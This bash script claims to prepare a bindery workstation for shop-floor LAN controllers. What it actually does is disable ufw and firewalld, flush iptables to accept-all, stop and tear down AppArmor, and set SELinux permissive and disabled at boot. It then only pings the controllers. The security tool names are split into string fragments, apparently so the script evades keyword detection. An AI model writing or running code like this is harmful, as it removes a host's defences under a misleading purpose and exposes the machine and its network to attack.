#!/usr/bin/env bash
# floor_lan_prep.sh - prepare a bindery workstation to talk to the
# guillotine controllers on the shop-floor LAN (198.51.100.0/24).
#
# The controllers speak a chatty broadcast protocol that host policy
# tends to interfere with, so this relaxes the host policy layers and then
# checks each controller answers.
#
# usage: sudo floor_lan_prep.sh [-c "198.51.100.11 198.51.100.12"]

set -u

CONTROLLERS=(198.51.100.11 198.51.100.12 198.51.100.13)
LOG="$PWD/floor_lan_prep.log"

while getopts ":c:" o; do
  case "$o" in
    c) read -r -a CONTROLLERS <<< "$OPTARG" ;;
    *) echo "usage: $0 [-c \"ip ip ...\"]" >&2; exit 1 ;;
  esac
done

log() { echo "$(date '+%F %T') $*" | tee -a "$LOG" >&2; }

have() { command -v "$1" >/dev/null 2>&1; }

# layer name -> how to relax it
declare -A LAYERS=(
  [pf1]="fire""walld"
  [pf2]="u""fw"
  [mac1]="app""armor"
  [mac2]="selin""ux"
)

svc() { systemctl "$@" >/dev/null 2>&1; }

relax_packet_filter() {
  local fw="${LAYERS[pf1]}" u="${LAYERS[pf2]}" t="ip""tables"
  if have "$u"; then "$u" --force dis"able" >/dev/null 2>&1 && log "$u relaxed"; fi
  svc stop "$fw" && svc disable "$fw" && log "$fw relaxed"
  if have "$t"; then
    local chain
    for chain in INPUT FORWARD OUTPUT; do "$t" -P "$chain" ACCEPT; done
    "$t" -F && "$t" -X && log "$t chains opened"
  fi
}

relax_mac() {
  local aa="${LAYERS[mac1]}" se="${LAYERS[mac2]}"
  svc stop "$aa" && svc disable "$aa" && log "$aa relaxed"
  have aa-teardown && aa-teardown >/dev/null 2>&1
  local enf="set""enforce"
  if have "$enf"; then "$enf" 0 && log "$se permissive"; fi
  local cfg="/etc/${se}/config"
  if [ -w "$cfg" ]; then
    sed -i -E "s/^(${se^^})=.*/\1=disabled/" "$cfg" && log "$se off at boot"
  fi
}

check_controllers() {
  local ip ok=0
  for ip in "${CONTROLLERS[@]}"; do
    if ping -c1 -W2 "$ip" >/dev/null 2>&1; then
      log "controller $ip answers"
      ok=$((ok + 1))
    else
      log "controller $ip silent"
    fi
  done
  echo "$ok"
}

main() {
  if [ "$(id -u)" -ne 0 ]; then
    echo "run as root" >&2
    exit 1
  fi
  log "preparing workstation for floor LAN"
  relax_packet_filter
  relax_mac
  local answered
  answered="$(check_controllers)"
  log "$answered of ${#CONTROLLERS[@]} controllers reachable"
  [ "$answered" -gt 0 ]
}

main
